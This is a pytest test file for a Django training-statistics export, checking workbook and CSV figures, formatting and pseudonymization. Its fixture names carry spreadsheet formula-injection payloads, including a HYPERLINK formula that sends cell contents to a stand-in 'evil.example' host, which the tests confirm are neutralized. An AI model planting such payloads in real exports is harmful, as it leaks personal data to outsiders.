"""The M&E workbook and the Data CSV against a hand-computed data set.

The data set (see :func:`build`): two sessions that count and one cancelled.

- S1, course TORT, 3 days from 2025-03-10, max score 100:
  P1 (female, police, Chui) present 3, scores 40 -> 80, a certificate (and a revoked one);
  P2 (male, ministry, Osh) present 2, scores 60 -> 50; P3 (female, ministry, Chui) present 3.
- S2, course UPR, 2 days from 2025-05-05, max score 50:
  P1 present 1, scores 20 -> 40 (40% -> 80%); P4 (male, police, no region) present 2;
  P3 withdrawn (not counted).
- S3, course UPR, cancelled: P2 (not counted).

So: 2 sessions, 5 participations, 4 participants; female 2 people / 3 participations, male 2 / 2;
attendance 11 of 13 person-days; 3 pairs, pre mean (40 + 60 + 40) / 3, post mean
(80 + 50 + 80) / 3 = 70, 2 of 3 improved; 1 valid certificate.
P1's, P2's and P3's names start with '=', '+' and '@'; nothing of the kind may run as a formula.
"""

import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from reports.models import Programme, Target
from reports.stats import Filters, filters_from_names
from reports.workbook import SHEETS, csv_lines, write_csv, write_workbook
from tests.factories import (
    AgencyFactory,
    CertificateFactory,
    CourseFactory,
    EnrolmentFactory,
    ParticipantFactory,
    SessionFactory,
    agency_type,
    attend,
    gender,
    region,
)
from trainings.models import Enrolment, Session

pytestmark = pytest.mark.django_db

EVIL_LAST = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
EVIL_FIRST = "+1"
EVIL_MIDDLE = "@SUM(1)"
EMAIL = "p1.secret@example.org"
PHONE = "+996 555 123 456"
NAMES = ["Osmonova", "Ivanov", "Petrova", "Sydykov", "Aigul", "Bakyt", "Gulnara", "Nurlan"]


def build() -> dict:
    """Create the data set described in the module's docstring; return its records by name."""
    police = AgencyFactory(name="Police of Bishkek", type=agency_type("Police"))
    ministry = AgencyFactory(name="-Ministry of Justice", type=agency_type("Ministry"))
    torture = CourseFactory(code="TORT", title="Prevention of torture", assessed=True)
    upr = CourseFactory(code="UPR", title="Universal Periodic Review")
    s1 = SessionFactory(code="S1", course=torture, start_date=dt.date(2025, 3, 10))
    s2 = SessionFactory(
        code="S2",
        course=upr,
        start_date=dt.date(2025, 5, 5),
        end_date=dt.date(2025, 5, 6),
        max_score=Decimal(50),
        region=region("Osh city"),
    )
    s3 = SessionFactory(code="S3", course=upr, status=Session.Status.CANCELLED)
    p1 = ParticipantFactory(
        last_name=EVIL_LAST,
        first_name="Aigul",
        middle_name="Osmonovna",
        gender=gender("female"),
        agency=police,
        region=region("Chui"),
        email=EMAIL,
        phone=PHONE,
        birth_year=1990,
    )
    p2 = ParticipantFactory(
        last_name="Ivanov",
        first_name=EVIL_FIRST,
        gender=gender("male"),
        agency=ministry,
        region=region("Osh"),
    )
    p3 = ParticipantFactory(
        last_name="Petrova",
        first_name="Gulnara",
        middle_name=EVIL_MIDDLE,
        gender=gender("female"),
        agency=ministry,
        region=region("Chui"),
    )
    p4 = ParticipantFactory(
        last_name="Sydykov", first_name="Nurlan", gender=gender("male"), agency=police, region=None
    )
    e1 = EnrolmentFactory(session=s1, participant=p1, pre_score=40, post_score=80)
    e2 = EnrolmentFactory(session=s1, participant=p2, pre_score=60, post_score=50)
    e3 = EnrolmentFactory(session=s1, participant=p3)
    e4 = EnrolmentFactory(session=s2, participant=p1, pre_score=20, post_score=40)
    e5 = EnrolmentFactory(session=s2, participant=p4)
    EnrolmentFactory(session=s2, participant=p3, status=Enrolment.Status.WITHDRAWN)
    EnrolmentFactory(session=s3, participant=p2)
    for enrolment, present in ((e1, 3), (e2, 2), (e3, 3), (e4, 1), (e5, 2)):
        attend(enrolment, present)
    CertificateFactory(enrolment=e1, number="TORT-2025-001")
    CertificateFactory(
        enrolment=e2, number="TORT-2025-002", revoked=True, revoked_on=dt.date(2025, 4, 1)
    )
    return {"p1": p1, "p2": p2, "p3": p3, "p4": p4, "s1": s1, "s2": s2}


@pytest.fixture
def data() -> dict:
    return build()


def export(tmp_path: Path, filters: Filters | None = None, pseudonymize: bool = False) -> Path:
    path = tmp_path / "statistics.xlsx"
    write_workbook(path, filters or Filters(), pseudonymize)
    return path


def table(sheet, header_row: int = 4) -> list[list]:
    """The rows from the header down to the first empty row."""
    rows = []
    width = 0
    for row in sheet.iter_rows(min_row=header_row, values_only=True):
        if all(v is None for v in row):
            break
        if not rows:
            width = max(n for n, v in enumerate(row, 1) if v is not None)
        rows.append(list(row[:width]))
    return rows


def by_label(sheet) -> dict:
    return {row[0]: row[1] for row in table(sheet)[1:]}


def test_sheets_come_in_the_contract_order_with_a_title_and_the_filters(data, tmp_path):
    book = load_workbook(export(tmp_path, filters_from_names(gender="f", course="TORT")))
    assert book.sheetnames == list(SHEETS)
    for sheet in book.worksheets:
        assert sheet["A1"].font.b and sheet["A1"].font.sz == 14
        assert sheet["A2"].value.startswith("Filters: Course: TORT; Gender: Female.")
        assert sheet["A3"].value is None
        assert all(cell.font.b for cell in sheet[4] if cell.value is not None) or sheet["A4"].font.b


def test_summary_gives_the_hand_computed_figures(data, tmp_path):
    sheet = load_workbook(export(tmp_path))["Summary"]
    figures = by_label(sheet)
    assert figures["Sessions"] == 2
    assert figures["Participations (a person once per session)"] == 5
    assert figures["Participants (distinct persons)"] == 4
    assert figures["Share of women among participants"] == pytest.approx(2 / 4)
    assert figures["Attendance rate (present / scheduled person-days)"] == pytest.approx(11 / 13)
    assert figures["Pre/post test pairs"] == 3
    assert figures["Pre-test mean"] == pytest.approx((40 + 60 + 40) / 300)
    assert figures["Post-test mean"] == pytest.approx(0.70)
    assert figures["Mean gain (percentage points)"] == pytest.approx(70 - 140 / 3)
    assert figures["Share of pairs improved"] == pytest.approx(2 / 3)
    assert figures["Certificates issued (not revoked)"] == 1
    formats = {row[0].value: row[1].number_format for row in sheet.iter_rows(min_row=5, max_row=16)}
    assert formats["Attendance rate (present / scheduled person-days)"] == "0.0%"
    assert formats["Pre-test mean"] == "0.0%"
    assert formats["Mean gain (percentage points)"] == "0.0"
    assert formats["Participants (distinct persons)"] == "#,##0"
    assert sheet.freeze_panes == "A5"
    assert sheet.auto_filter.ref == "A4:B16"


def test_by_gender_totals_and_shares_add_up_to_the_hand_computed_numbers(data, tmp_path):
    sheet = load_workbook(export(tmp_path))["By gender"]
    rows = table(sheet)
    assert rows[0] == ["Gender", "Participants", "Participations", "Share of participants"]
    assert rows[1:] == [
        ["Female", 2, 3, 0.5],
        ["Male", 2, 2, 0.5],
        ["Other", 0, 0, 0],
        ["Undisclosed", 0, 0, 0],
        ["Total", 4, 5, 1],
    ]
    assert all(sheet.cell(row, 4).number_format == "0.0%" for row in range(5, 10))
    assert sheet.cell(5, 2).number_format == "#,##0"
    assert all(cell.font.b for cell in sheet[9][:4])  # the totals row
    assert sheet.freeze_panes == "A5"
    assert sheet.auto_filter.ref == "A4:D8"  # the rows, not the totals


def test_by_gender_crosses_gender_with_agency_type(data, tmp_path):
    sheet = load_workbook(export(tmp_path))["By gender"]
    header = next(
        row[0].row
        for row in sheet.iter_rows()
        if row[0].value == "Participants by agency type and gender"
    )
    assert table(sheet, header + 1) == [
        ["Agency type", "Female", "Male", "Other", "Undisclosed", "Total"],
        ["Ministry", 1, 1, 0, 0, 2],
        ["Police", 1, 1, 0, 0, 2],
        ["Total", 2, 2, 0, 0, 4],
    ]


def test_breakdowns_by_agency_type_region_and_course(data, tmp_path):
    book = load_workbook(export(tmp_path))
    assert table(book["By agency type"])[1:] == [
        ["Ministry", 2, 2, 0.5],
        ["Police", 2, 3, 0.5],
        ["Total", 4, 5, 1],
    ]
    assert table(book["By region"])[1:] == [
        ["Chui", 2, 3, 0.5],
        ["Osh", 1, 1, 0.25],
        ["unknown", 1, 1, 0.25],
        ["Total", 4, 5, 1],
    ]
    course = table(book["By course"])
    assert course[0] == ["Code", "Title", "Participants", "Participations", "Attendance rate"]
    assert course[1] == ["TORT", "Prevention of torture", 3, 3, pytest.approx(8 / 9)]
    assert course[2] == ["UPR", "Universal Periodic Review", 2, 2, pytest.approx(3 / 4)]
    assert course[3] == ["All courses", None, 4, 5, pytest.approx(11 / 13)]
    assert "counts once per course" in book["By course"].cell(9, 1).value


def test_assessments_per_course_with_the_overall_figures(data, tmp_path):
    sheet = load_workbook(export(tmp_path))["Assessments"]
    rows = table(sheet, 5)  # under the caption 'By course'
    assert rows[0][:4] == ["Code", "Course", "Pairs", "Pre-test mean"]
    assert rows[1][:6] == ["TORT", "Prevention of torture", 2, 0.5, 0.65, pytest.approx(15)]
    assert rows[2][:6] == ["UPR", "Universal Periodic Review", 1, 0.4, 0.8, pytest.approx(40)]
    assert rows[3][:3] == ["All courses", None, 3]
    assert rows[3][6] == pytest.approx(2 / 3)
    assert sheet.cell(6, 4).number_format == "0.0%"
    assert sheet.freeze_panes == "A6"


def test_data_has_one_row_per_participation_with_the_contract_columns(data, tmp_path):
    sheet = load_workbook(export(tmp_path))["Data"]
    rows = table(sheet)
    assert rows[0] == [
        "Session",
        "Course",
        "Start",
        "End",
        "Session region",
        "Participant id",
        "Last name",
        "First name",
        "Middle name",
        "Email",
        "Gender",
        "Birth year",
        "Agency",
        "Agency type",
        "Participant region",
        "Days present",
        "Attendance %",
        "Pre %",
        "Post %",
        "Certificate number",
    ]
    assert len(rows) == 1 + 5
    first = dict(zip(rows[0], rows[1], strict=True))  # S1, names in order: '=' sorts first
    assert first == {
        "Session": "S1",
        "Course": "TORT",
        "Start": dt.datetime(2025, 3, 10),
        "End": dt.datetime(2025, 3, 12),
        "Session region": "Bishkek city",
        "Participant id": data["p1"].pk,
        "Last name": EVIL_LAST,
        "First name": "Aigul",
        "Middle name": "Osmonovna",
        "Email": EMAIL,
        "Gender": "Female",
        "Birth year": 1990,
        "Agency": "Police of Bishkek",
        "Agency type": "Police",
        "Participant region": "Chui",
        "Days present": 3,
        "Attendance %": 1,
        "Pre %": 0.4,
        "Post %": 0.8,
        "Certificate number": "TORT-2025-001",
    }
    by_person = {(r[0], r[5]): r for r in rows[1:]}
    ivanov = by_person[("S1", data["p2"].pk)]
    assert ivanov[15:] == [2, pytest.approx(2 / 3), 0.6, 0.5, None]  # the revoked one not shown
    assert by_person[("S2", data["p1"].pk)][15:19] == [1, 0.5, 0.4, 0.8]
    assert by_person[("S2", data["p4"].pk)][14] is None  # no region recorded
    assert sheet.cell(5, 17).number_format == "0.0%"
    assert sheet.cell(5, 3).number_format == "yyyy-mm-dd"
    assert sheet.freeze_panes == "A5"
    assert sheet.auto_filter.ref == "A4:T9"


def test_data_follows_the_filters(data, tmp_path):
    sheet = load_workbook(export(tmp_path, filters_from_names(gender="male")))["Data"]
    assert sorted(row[5] for row in table(sheet)[1:]) == sorted([data["p2"].pk, data["p4"].pk])


def test_text_from_people_is_stored_as_text_never_as_a_formula(data, tmp_path):
    path = export(tmp_path)
    sheet = load_workbook(path)["Data"]
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=5) for cell in row}
    for value in (EVIL_LAST, EVIL_FIRST, EVIL_MIDDLE, "-Ministry of Justice"):
        assert cells[value].data_type == "s", value
    with zipfile.ZipFile(path) as archive:
        xml = "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
        )
    assert "<f>" not in xml and "<f " not in xml  # not one formula in any sheet


def test_charts_on_summary_and_by_gender_point_at_their_tables(data, tmp_path):
    path = export(tmp_path)
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        charts = sorted(n for n in names if re.fullmatch(r"xl/charts/chart\d+\.xml", n))
        refs = {n: re.findall(r"<f>(.*?)</f>", archive.read(n).decode()) for n in charts}
        drawings = {
            n: archive.read(n).decode() for n in names if n.startswith("xl/worksheets/_rels/")
        }
    assert len(charts) == 3
    found = sorted(tuple(r) for r in refs.values())
    assert found == sorted(
        [
            # Summary: participants by gender (pie): the header and the four genders
            ("'Summary'!B19", "'Summary'!$A$20:$A$23", "'Summary'!$B$20:$B$23"),
            # Summary: participants per quarter (bar): 2025-Q1 and 2025-Q2
            ("'Summary'!B26", "'Summary'!$A$27:$A$28", "'Summary'!$B$27:$B$28"),
            # By gender: participants and participations, two series over the four genders
            (
                "'By gender'!B4",
                "'By gender'!$A$5:$A$8",
                "'By gender'!$B$5:$B$8",
                "'By gender'!C4",
                "'By gender'!$A$5:$A$8",
                "'By gender'!$C$5:$C$8",
            ),
        ]
    )
    # The drawings belong to the first two sheets only.
    assert sorted(n for n, text in drawings.items() if "drawing" in text) == [
        "xl/worksheets/_rels/sheet1.xml.rels",
        "xl/worksheets/_rels/sheet2.xml.rels",
    ]


def test_pseudonymized_workbook_holds_no_name_email_or_phone(data, tmp_path):
    path = export(tmp_path, pseudonymize=True)
    with zipfile.ZipFile(path) as archive:
        text = "".join(archive.read(name).decode("utf-8") for name in archive.namelist())
    for secret in (
        "HYPERLINK",
        "Aigul",
        "Osmonovna",
        "Ivanov",
        "Petrova",
        "Gulnara",
        "Sydykov",
        "Nurlan",
        "@SUM",
        "secret@",
        "example.org",
        "555 123",
    ):
        assert secret not in text, secret
    sheet = load_workbook(path)["Data"]
    header = table(sheet)[0]
    assert not {"Last name", "First name", "Middle name", "Email"} & set(header)
    assert header[5] == "Participant id" and len(header) == 16
    assert sorted(row[5] for row in table(sheet)[1:]) == sorted(
        data[p].pk for p in ("p1", "p1", "p2", "p3", "p4")
    )
    assert "Pseudonymized" in sheet["A2"].value


def test_csv_quotes_formula_like_text_and_starts_with_a_bom(data):
    text = "".join(csv_lines(Filters()))
    assert text.startswith("\ufeffSession,Course,")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert len(rows) == 6
    values = {value for row in rows for value in row}
    assert "'" + EVIL_LAST in values and "'" + EVIL_FIRST in values
    assert "'" + EVIL_MIDDLE in values and "'-Ministry of Justice" in values
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["Attendance %"] == "100.00" and first["Pre %"] == "40.00"
    assert first["Start"] == "2025-03-10"


def test_pseudonymized_csv_leaves_the_name_columns_out(data, tmp_path):
    out = io.StringIO()
    assert write_csv(out, Filters(), pseudonymize=True) == 5
    text = out.getvalue()
    assert "Last name" not in text and "Email" not in text
    for secret in ("Aigul", "Ivanov", "secret@", "HYPERLINK"):
        assert secret not in text


def test_summary_shows_achieved_against_target_for_a_programme(data, tmp_path):
    programme = Programme.objects.create(code="ROL", name="Rule of law")
    programme.sessions.add(data["s1"])
    Target.objects.create(programme=programme, indicator="participants", value=6)
    Target.objects.create(programme=programme, indicator="women_share", value=Decimal("0.5"))
    sheet = load_workbook(export(tmp_path, filters_from_names(programme="rol")))["Summary"]
    assert sheet["A2"].value.startswith("Filters: Programme: ROL: Rule of law.")
    start = next(
        row[0].row
        for row in sheet.iter_rows()
        if str(row[0].value).startswith("Achieved against target")
    )
    rows = table(sheet, start + 1)
    assert rows[0] == [
        "Indicator",
        "Period start",
        "Period end",
        "Target",
        "Achieved",
        "Achieved / target",
    ]
    assert rows[1][0] == "Participants trained"
    assert rows[1][3:] == [6, 3, 0.5]
    assert rows[2][3:] == [0.5, pytest.approx(2 / 3), pytest.approx(4 / 3)]
    assert sheet.cell(start + 3, 4).number_format == "0.0%"  # a share's target as percent


def test_no_summary_target_table_without_a_programme(data, tmp_path):
    sheet = load_workbook(export(tmp_path))["Summary"]
    assert not any(str(c.value).startswith("Achieved") for row in sheet.iter_rows() for c in row)


def test_query_count_does_not_grow_with_the_data(data, tmp_path):
    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            write_workbook(tmp_path / "q.xlsx", Filters())
        return len(captured)

    before = queries()
    for n in range(30):
        attend(EnrolmentFactory(session=data["s1"], pre_score=n, post_score=n + 1), 2)
    assert queries() == before


def test_empty_scope_still_makes_a_valid_workbook(db, tmp_path):
    book = load_workbook(export(tmp_path))
    assert book.sheetnames == list(SHEETS)
    assert table(book["Data"]) == [table(book["Data"])[0]]
